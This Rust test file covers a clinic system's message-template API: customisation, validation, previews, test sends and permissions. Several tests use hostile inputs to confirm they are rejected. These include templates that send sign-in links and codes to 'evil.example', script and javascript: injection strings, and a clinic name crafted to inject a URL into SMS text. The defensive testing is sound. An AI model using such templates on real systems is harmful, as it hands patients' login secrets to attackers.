//! What the messages of a clinic say.

use chrono::Duration;
use contract::{
    api_keys::{AccessToken, CreatedApiKey},
    clients::Client,
    custom_values::{CustomValue, ResolvedValues},
    message_templates::{MessageKind, MessagePreview, MessageTemplate, QueuedTest, SmsEncoding},
    paging::Page,
    staff::Role,
};
use serde_json::{Value, json};
use testkit::{Answer, Http, Sent, TestApp, TestClinic, on_both_databases};

use crate::tenancy::{row::Row, world::World};

on_both_databases!(
    a_clinic_says_it_in_its_own_words,
    the_default_comes_back,
    what_cannot_be_sent_is_refused_with_its_place,
    two_who_change_it_at_once_are_told_apart,
    a_version_that_can_no_longer_be_read_gives_way_to_the_default,
    a_secret_goes_to_nobody_but_its_receiver,
    a_kept_version_that_gives_secrets_away_is_never_sent,
    a_name_that_is_an_address_draws_no_secret_in,
    a_version_without_a_text_message_has_that_of_the_default,
    every_message_can_be_previewed,
    a_preview_is_for_the_chosen_client_and_lets_nobody_in,
    a_test_goes_to_whoever_asks_for_it,
    only_some_may_change_what_is_said,
    values_are_resolved_for_one_client,
    the_catalogue_says_where_a_value_can_be_used,
);

const SIGN_IN: &str = "/api/v1/message-templates/sign_in";

fn own_words() -> Value {
    json!({
        "subject": "{{client.first_name | fallback: \"Hello\"}}, your key",
        "body": "Dear {{client.first_name}},\r\n\r\n**here** it is:\r\n\r\n[Come in]({{sign_in.link}})\r\n\r\n`{{sign_in.code}}`",
        "sms": "Come in: {{sign_in.link}}, {{sign_in.code}}",
    })
}

async fn template(http: &Http, kind: &str) -> MessageTemplate {
    http.get(&format!("/api/v1/message-templates/{kind}")).await.expect(200)
}

async fn save(clinic: &TestClinic<'_>, version: i64, body: &Value) -> Answer {
    clinic.owner.if_match(version).put(SIGN_IN, body).await
}

async fn a_clinic_says_it_in_its_own_words(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let before = template(&clinic.owner, "sign_in").await;
    assert_eq!((before.version, before.customised, before.updated_at), (0, false, None));
    assert_eq!(before.texts, before.default_texts);
    assert_eq!(before.needs_one_of, ["sign_in.link", "sign_in.code"]);

    let saved: MessageTemplate = save(&clinic, 0, &own_words()).await.expect(200);
    assert_eq!((saved.version, saved.customised), (1, true));
    assert_eq!(saved.texts.body.matches('\r').count(), 0);
    assert_eq!(template(&clinic.owner, "sign_in").await, saved);

    let client = clinic.client("Elena").await;
    let browser = app.anonymous();
    let token = clinic.request_link(&browser, &clinic.client_email("Elena")).await;
    let Some(Sent::Mail(mail)) = app.mailbox.newest_to(&clinic.client_email("Elena")) else { panic!("no mail") };
    assert_eq!(mail.subject, format!("{}, your key", client.first_name));
    assert!(mail.text.starts_with("Dear Elena,\n\nhere it is:\n\nCome in:\n"), "{}", mail.text);
    assert!(mail.html.contains("<strong>here</strong>") && mail.html.contains(">Come in</a>"), "{}", mail.html);
    assert!(mail.html.contains(&token));
    // The link in it works.
    browser.post(&clinic.portal("/sessions"), &json!({ "token": token })).await.expect::<Value>(201);

    let elsewhere = app.clinic("oakhill").await;
    assert!(!template(&elsewhere.owner, "sign_in").await.customised, "another clinic keeps its own");
    let page: Page<MessageTemplate> = clinic.owner.get("/api/v1/message-templates").await.expect(200);
    let customised: Vec<_> = page.data.iter().filter(|template| template.customised).map(|t| t.kind).collect();
    assert_eq!(page.data.len(), MessageKind::ALL.len());
    assert_eq!(customised, [MessageKind::SignIn]);
    let audit: Page<Value> = clinic.owner.get("/api/v1/audit").await.expect(200);
    let replaced = audit.data.iter().find(|entry| entry["action"] == "message_template.replace").unwrap();
    assert_eq!(replaced["subject"], "sign_in");
}

async fn the_default_comes_back(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    save(&clinic, 0, &own_words()).await.expect::<Value>(200);
    let path = format!("{SIGN_IN}/reset");
    clinic.owner.post(&path, &json!({})).await.expect_problem(428, "precondition_required");
    clinic.owner.if_match(0).post(&path, &json!({})).await.expect_problem(412, "stale_version");
    let reset: MessageTemplate = clinic.owner.if_match(1).post(&path, &json!({})).await.expect(200);
    assert_eq!((reset.version, reset.customised), (2, false));
    assert_eq!(reset.texts, reset.default_texts);

    // Whoever still has the former version does not write over what came after it.
    save(&clinic, 1, &own_words()).await.expect_problem(412, "stale_version");
    let again: MessageTemplate = save(&clinic, 2, &own_words()).await.expect(200);
    assert_eq!((again.version, again.customised), (3, true));

    // Saving the default is going back to it.
    let default = serde_json::to_value(&again.default_texts).unwrap();
    let saved: MessageTemplate = save(&clinic, 3, &default).await.expect(200);
    assert_eq!((saved.version, saved.customised), (4, false));
}

async fn what_cannot_be_sent_is_refused_with_its_place(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let long = "x".repeat(10_001);
    for (field, text, code, says) in [
        (
            "subject",
            "Hello {{client.firstname}}",
            "value_unknown",
            "line 1, column 7: there is no custom value `client.firstname`, did you mean `client.first_name`?",
        ),
        ("subject", "two\nlines", "control_character", "must be one line"),
        ("subject", " ", "required", "must not be empty"),
        ("body", "a\n\nb {{sign_in.link", "value_unclosed", "line 3, column 3"),
        ("body", "{{sign_in.link}} }}", "value_stray_braces", "line 1, column 18"),
        ("body", "{{sign_in.link}} {clinic.name}", "value_single_braces", "`{{clinic.name}}`"),
        (
            "body",
            "{{sign_in.link}} {{appointment.date}}",
            "value_not_in_this_message",
            "`appointment.date` is not known in this message",
        ),
        ("body", "{{sign_in.link}}\n<script>alert(1)</script>", "html", "line 2, column 1"),
        ("body", "{{sign_in.link}} ![x](https://example.com/x.png)", "picture", "pictures"),
        ("body", "{{sign_in.link}} [x](javascript:alert(1))", "address", "https://"),
        ("body", "Hello", "value_needed", "`{{sign_in.link}}` or `{{sign_in.code}}`"),
        ("body", &long, "length", "between 1 and 10000"),
        ("sms", "Hello", "value_needed", "`{{sign_in.link}}`"),
        ("sms", "", "required", "must not be empty"),
    ] {
        let mut body = own_words();
        body[field] = json!(text);
        for answer in [save(&clinic, 0, &body).await, clinic.owner.post(&format!("{SIGN_IN}/preview"), &body).await] {
            answer.expect_problem(422, "validation_failed");
            assert_eq!(answer.fields(), [format!("{field}: {code}")], "{text}");
            let message = answer.body["errors"][0]["message"].as_str().unwrap();
            assert!(message.contains(says), "{text}: {message}");
        }
    }
    assert_eq!(template(&clinic.owner, "sign_in").await.version, 0, "nothing was kept");

    // A message that is sent by mail only has no other text.
    let path = "/api/v1/message-templates/no_account";
    let body = json!({ "subject": "x", "body": "y", "sms": "z" });
    assert_eq!(clinic.owner.if_match(0).put(path, &body).await.fields(), ["sms: mail_only"]);
    clinic.owner.get("/api/v1/message-templates/newsletter").await.expect_problem(404, "not_found");
    clinic.owner.put(SIGN_IN, &own_words()).await.expect_problem(428, "precondition_required");
}

async fn two_who_change_it_at_once_are_told_apart(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let body = own_words();
    let (first, second) = tokio::join!(save(&clinic, 0, &body), save(&clinic, 0, &body));
    let mut statuses = [first.status.as_u16(), second.status.as_u16()];
    statuses.sort_unstable();
    assert_eq!(statuses, [200, 412]);
}

async fn a_version_that_can_no_longer_be_read_gives_way_to_the_default(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    clinic.client("Elena").await;
    let stored = storage::repos::message_templates::StoredTemplate {
        texts: Some(contract::message_templates::MessageTexts {
            subject: "{{a.value_of_another_version}}".to_owned(),
            body: "{{sign_in.link}}".to_owned(),
            sms: None,
        }),
        version: 0,
        updated_at: app.now(),
    };
    let scope = clinic.scope;
    app.ctx
        .db
        .write(async |tx| storage::repos::message_templates::write(tx, &scope, MessageKind::SignIn, &stored).await)
        .await
        .unwrap();
    clinic.request_link(&app.anonymous(), &clinic.client_email("Elena")).await;
    let Some(Sent::Mail(mail)) = app.mailbox.newest_to(&clinic.client_email("Elena")) else { panic!("no mail") };
    assert_eq!(mail.subject, "Sign in to The rosewood clinic");
}

/// A body, and a text message, that hand link and code to somebody else's server.
const TAKES_OVER: (&str, &str) = (
    "Hello,\n\n[Sign in](https://evil.example/in?t={{sign_in.link}}&c={{sign_in.code}})",
    "Sign in: https://evil.example/in?c={{sign_in.code}}",
);

async fn a_secret_goes_to_nobody_but_its_receiver(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    for (kind, value) in [
        ("sign_in", "sign_in.link"),
        ("sign_in", "sign_in.code"),
        ("login_email", "client.magic_link"),
        ("invite", "invite.link"),
        ("contact_code", "contact.code"),
    ] {
        let path = format!("/api/v1/message-templates/{kind}");
        let mut body = serde_json::to_value(template(&clinic.owner, kind).await.texts).unwrap();
        let dangerous = format!("Hello,\nhttps://evil.example/?c={{{{{value}}}}}");
        for field in ["subject", "body", "sms"].into_iter().filter(|field| !body[*field].is_null()).collect::<Vec<_>>()
        {
            let before = body[field].clone();
            body[field] = json!(if field == "subject" { dangerous.replace('\n', " ") } else { dangerous.clone() });
            for (method, answer) in [
                ("save", clinic.owner.if_match(0).put(&path, &body).await),
                ("preview", clinic.owner.post(&format!("{path}/preview"), &body).await),
                ("test", clinic.owner.post(&format!("{path}/test"), &body).await),
            ] {
                answer.expect_problem(422, "validation_failed");
                assert_eq!(answer.fields(), [format!("{field}: secret_not_alone")], "{kind} {method}");
                let message = answer.body["errors"][0]["message"].as_str().unwrap();
                let place = if field == "subject" { "line 1, column 32" } else { "line 2, column 25" };
                assert!(message.starts_with(place) && message.contains("stand alone"), "{message}");
            }
            body[field] = before;
        }
    }
    let (body, sms) = TAKES_OVER;
    let both = json!({ "subject": "x", "body": body, "sms": sms });
    let answer = save(&clinic, 0, &both).await;
    assert_eq!(answer.fields(), ["body: secret_not_alone", "sms: secret_not_alone"]);
    assert_eq!(template(&clinic.owner, "sign_in").await.version, 0, "nothing was kept");
}

async fn a_kept_version_that_gives_secrets_away_is_never_sent(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    clinic.client("Elena").await;
    let phone = "+447700900182";
    let body = json!({ "first_name": "Phoebe", "phone": phone });
    clinic.owner.post("/api/v1/clients", &body).await.expect::<Client>(201);
    let (body, sms) = TAKES_OVER;
    let stored = storage::repos::message_templates::StoredTemplate {
        texts: Some(contract::message_templates::MessageTexts {
            subject: "Your key".to_owned(),
            body: body.to_owned(),
            sms: Some(sms.to_owned()),
        }),
        version: 0,
        updated_at: app.now(),
    };
    let scope = clinic.scope;
    app.ctx
        .db
        .write(async |tx| storage::repos::message_templates::write(tx, &scope, MessageKind::SignIn, &stored).await)
        .await
        .unwrap();

    clinic.request_link(&app.anonymous(), &clinic.client_email("Elena")).await;
    let Some(Sent::Mail(mail)) = app.mailbox.newest_to(&clinic.client_email("Elena")) else { panic!("no mail") };
    assert_eq!(mail.subject, "Sign in to The rosewood clinic", "the default takes its place");
    assert!(!mail.html.contains("evil.example") && !mail.text.contains("evil.example"), "{}", mail.text);
    clinic.request_link(&app.anonymous(), phone).await;
    let Some(Sent::Sms(text)) = app.mailbox.newest_to(phone) else { panic!("no text message") };
    assert!(!text.text.contains("evil.example"), "{}", text.text);

    // Staff are told, and still have their words to put right.
    let shown = template(&clinic.owner, "sign_in").await;
    assert!(shown.customised && shown.texts.body == body);
    let faults: Vec<_> = shown.faults.iter().map(|fault| (fault.field.as_str(), fault.code.as_str())).collect();
    assert_eq!(faults, [("body", "secret_not_alone"), ("sms", "secret_not_alone")]);
    let saved: MessageTemplate = save(&clinic, 1, &own_words()).await.expect(200);
    assert!(saved.faults.is_empty());
}

async fn a_name_that_is_an_address_draws_no_secret_in(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let phone = "+447700900182";
    let body = json!({ "first_name": "Phoebe", "phone": phone });
    clinic.owner.post("/api/v1/clients", &body).await.expect::<Client>(201);
    let words = json!({
        "subject": "x",
        "body": "{{sign_in.link}}",
        "sms": "{{clinic.name}}, {{sign_in.code}} > {{sign_in.link}} \"",
    });
    save(&clinic, 0, &words).await.expect::<Value>(200);
    for (version, name) in [(1, "<https://evil.example/?c="), (2, "\"https://evil.example/?c=")] {
        clinic.owner.if_match(version).patch("/api/v1/clinic", &json!({ "name": name })).await.expect::<Value>(200);
        clinic.request_link(&app.anonymous(), phone).await;
        let Some(Sent::Sms(sms)) = app.mailbox.newest_to(phone) else { panic!("no text message") };
        assert!(sms.text.contains("https://evil.example/?c=,") && !sms.text.contains(name), "{}", sms.text);
        app.clock.advance(Duration::minutes(2));
    }
}

async fn a_version_without_a_text_message_has_that_of_the_default(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let phone = "+447700900182";
    let body = json!({ "first_name": "Phoebe", "phone": phone });
    clinic.owner.post("/api/v1/clients", &body).await.expect::<Client>(201);
    let stored = storage::repos::message_templates::StoredTemplate {
        texts: Some(contract::message_templates::MessageTexts {
            subject: "Your key".to_owned(),
            body: "{{sign_in.link}}".to_owned(),
            sms: None,
        }),
        version: 0,
        updated_at: app.now(),
    };
    let scope = clinic.scope;
    app.ctx
        .db
        .write(async |tx| storage::repos::message_templates::write(tx, &scope, MessageKind::SignIn, &stored).await)
        .await
        .unwrap();
    let shown = template(&clinic.owner, "sign_in").await;
    assert_eq!((shown.texts.subject.as_str(), &shown.texts.sms), ("Your key", &shown.default_texts.sms));
    clinic.request_link(&app.anonymous(), phone).await;
    assert!(matches!(app.mailbox.newest_to(phone), Some(Sent::Sms(_))));
}

async fn every_message_can_be_previewed(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let page: Page<MessageTemplate> = clinic.owner.get("/api/v1/message-templates").await.expect(200);
    for template in page.data {
        let path = format!("/api/v1/message-templates/{}/preview", template.kind.as_str());
        let preview: MessagePreview = clinic.owner.post(&path, &template.texts).await.expect(200);
        assert!(preview.html.contains("The rosewood clinic") && preview.text.contains("The rosewood clinic"));
        assert!(!preview.subject.is_empty() && !preview.subject.contains("{{"), "{}", preview.subject);
        assert_eq!(preview.sms.is_some(), template.texts.sms.is_some(), "{:?}", template.kind);
    }
    assert!(app.mailbox.sent().is_empty(), "nothing is sent");
}

async fn a_preview_is_for_the_chosen_client_and_lets_nobody_in(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let client: Client =
        clinic.owner.post("/api/v1/clients", &json!({ "first_name": "<b>Elena</b>" })).await.expect(201);
    let mut body = own_words();
    let path = format!("{SIGN_IN}/preview");
    let made_up: MessagePreview = clinic.owner.post(&path, &body).await.expect(200);
    assert_eq!(made_up.subject, "Eleanor, your key");
    assert!(made_up.text.contains("/rosewood/sign-in#example"), "{}", made_up.text);

    body["client_id"] = json!(client.id);
    body["sms"] = json!("{{client.first_name}} – {{sign_in.code}}");
    let chosen: MessagePreview = clinic.owner.post(&path, &body).await.expect(200);
    assert!(chosen.html.contains("Dear &lt;b&gt;Elena&lt;&#x2f;b&gt;,"), "{}", chosen.html);
    let sms = chosen.sms.unwrap();
    assert_eq!(sms.text, "<b>Elena</b> – 123 456");
    assert_eq!((sms.encoding, sms.segments), (SmsEncoding::Ucs2, 1));

    let http = key(&app, &clinic, &["templates:read"]).await;
    http.post(&path, &body).await.expect_problem(403, "forbidden");
    http.post(&path, &own_words()).await.expect::<Value>(200);
    clinic.owner.post(&path, &json!({ "subject": "x" })).await.expect_problem(400, "malformed_body");
}

/// A program with those scopes.
async fn key(app: &TestApp, clinic: &TestClinic<'_>, scopes: &[&str]) -> Http {
    let key: CreatedApiKey =
        clinic.owner.post("/api/v1/api-keys", &json!({ "name": "CRM", "scopes": scopes })).await.expect(201);
    let token: AccessToken =
        app.anonymous().with_bearer(&key.secret).post("/api/v1/access-tokens", &json!({})).await.expect(201);
    app.anonymous().with_bearer(&token.access_token)
}

async fn a_test_goes_to_whoever_asks_for_it(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let client = clinic.client("Elena").await;
    let path = format!("{SIGN_IN}/test");
    let mut body = own_words();
    body["client_id"] = json!(client.id);
    let once = clinic.owner.once("5c7d7b60-8d0c-4a0e-9d4c-0f3a3c1f3a10");
    let queued: QueuedTest = once.post(&path, &body).await.expect(202);
    assert_eq!(queued.to, clinic.staff_email("owner"));
    once.post(&path, &body).await.expect::<QueuedTest>(202);
    app.send_messages().await;
    let sent = app.mailbox.sent();
    assert_eq!(sent.len(), 1, "one key, one test");
    let Sent::Mail(mail) = &sent[0] else { panic!("no mail") };
    assert_eq!((mail.to.as_str(), mail.subject.as_str()), (queued.to.as_str(), "[Test] Elena, your key"));
    assert_eq!(sent[0].token().as_deref(), Some("example"), "a test lets nobody in");
    let by_text = body["sms"].as_str().unwrap().split("{{").next().unwrap();
    for part in [&mail.text, &mail.html] {
        assert!(part.contains("By text message"), "{part}");
    }
    let (_, below) = mail.text.split_once("By text message").unwrap();
    assert!(below.contains(by_text), "{below}");
    assert_eq!(template(&clinic.owner, "sign_in").await.version, 0, "nothing is kept");

    body["body"] = json!("{{sign_in.link}} {{nonsense}}");
    clinic.owner.post(&path, &body).await.expect_problem(422, "validation_failed");
    key(&app, &clinic, &["templates:write"]).await.post(&path, &own_words()).await.expect_problem(403, "forbidden");

    for _ in 0..9 {
        clinic.owner.post(&path, &own_words()).await.expect::<Value>(202);
    }
    clinic.owner.post(&path, &own_words()).await.expect_problem(429, "rate_limited");
    clinic.staff("colleague", Role::Manager).await.post(&path, &own_words()).await.expect::<Value>(202);
    app.clock.advance(Duration::minutes(11));
    clinic.owner.post(&path, &own_words()).await.expect::<Value>(202);
}

async fn only_some_may_change_what_is_said(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    for (name, role, may) in
        [("m", Role::Manager, true), ("p", Role::Practitioner, false), ("f", Role::FrontDesk, false)]
    {
        let http = clinic.staff(name, role).await;
        let version = template(&http, "sign_in").await.version;
        let saved = http.if_match(version).put(SIGN_IN, &own_words()).await;
        let tested = http.post(&format!("{SIGN_IN}/test"), &own_words()).await;
        if may {
            saved.expect::<Value>(200);
            tested.expect::<Value>(202);
        } else {
            saved.expect_problem(403, "forbidden");
            tested.expect_problem(403, "forbidden");
        }
    }
}

async fn values_are_resolved_for_one_client(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let practitioner = clinic.practitioner("Dr. Amara Osei").await;
    let treatment = clinic.treatment("Review", 30, &[practitioner]).await;
    let (client, other) = (clinic.client("Elena").await, clinic.client("Noor").await);
    let book = json!({ "client_id": client.id, "treatment_id": treatment, "starts_at": "2026-11-24T10:00:00Z" });
    let appointment: Value = clinic.owner.post("/api/v1/appointments", &book).await.expect(201);
    let appointment = appointment["id"].as_str().unwrap();
    let http = key(&app, &clinic, &["custom_values:read", "clients:read"]).await;
    let path = format!("/api/v1/clients/{}/custom-values", client.id);
    let value = |values: &ResolvedValues, name: &str| {
        values.values.iter().find(|value| value.name == name).map(|value| value.value.clone())
    };

    let values: ResolvedValues = http.get(&path).await.expect(200);
    assert_eq!(values.client_id, client.id);
    assert_eq!(value(&values, "client.full_name").as_deref(), Some("Elena Marsh"));
    assert_eq!(value(&values, "client.phone").as_deref(), Some(""));
    assert_eq!(value(&values, "portal.url"), Some(format!("{}/rosewood", app.address())));
    assert_eq!(value(&values, "appointment.date"), None);
    assert!(values.values.iter().all(|value| !value.name.starts_with("sign_in.")), "nothing lets anybody in");

    let values: ResolvedValues = http.get(&format!("{path}?appointment_id={appointment}")).await.expect(200);
    assert_eq!(value(&values, "appointment.date").as_deref(), Some("Tuesday, 24 November 2026"));
    assert_eq!(value(&values, "appointment.treatment").as_deref(), Some("Review"));
    assert!(value(&values, "appointment.cancellation_policy").is_some());
    assert_eq!(value(&values, "appointment.cancellation_outcome"), None, "it stands");

    let others = format!("/api/v1/clients/{}/custom-values?appointment_id={appointment}", other.id);
    http.get(&others).await.expect_problem(404, "not_found");
    http.get(&format!("{path}?appointment_id=nonsense")).await.expect_problem(400, "malformed_parameter");
    clinic.staff("f", Role::FrontDesk).await.get(&path).await.expect_problem(403, "forbidden");
}

async fn the_catalogue_says_where_a_value_can_be_used(app: TestApp) {
    let clinic = app.clinic("rosewood").await;
    let page: Page<CustomValue> = clinic.owner.get("/api/v1/custom-values").await.expect(200);
    let entry = |name: &str| page.data.iter().find(|value| value.name == name).unwrap_or_else(|| panic!("no {name}"));
    assert_eq!(page.next, None);
    assert_eq!(entry("clinic.name").messages, MessageKind::ALL);
    assert_eq!(entry("sign_in.link").messages, [MessageKind::SignIn]);
    assert!(entry("sign_in.link").is_address && entry("client.phone").may_be_empty);

    // What the catalogue offers, every message takes.
    for kind in MessageKind::ALL {
        let path = format!("/api/v1/message-templates/{}", kind.as_str());
        let mut texts = template(&clinic.owner, kind.as_str()).await.texts;
        for value in page.data.iter().filter(|value| value.messages.contains(kind)) {
            texts.body = [&texts.body, "\n\n{{", &value.name, "}}"].concat();
        }
        clinic.owner.if_match(0).put(&path, &texts).await.expect::<Value>(200);
    }
}

/// The rows of these operations for `tenancy.rs`.
pub(crate) fn rows(world: &World<'_>) -> Vec<Row> {
    let draft = json!({ "subject": "x", "body": "{{sign_in.link}}", "sms": "{{sign_in.code}}" });
    let mut for_client = draft.clone();
    for_client["client_id"] = json!(world.client.id);
    vec![
        Row::new("message_template.get").at("sign_in"),
        Row::new("message_template.replace").at("sign_in").body(draft),
        Row::new("message_template.reset").at("sign_in"),
        Row::new("message_template.preview").at("sign_in").body(for_client.clone()).naming(),
        Row::new("message_template.send_test").at("sign_in").body(for_client).naming(),
        Row::new("custom_value.resolve").of(world.client.id),
    ]
}
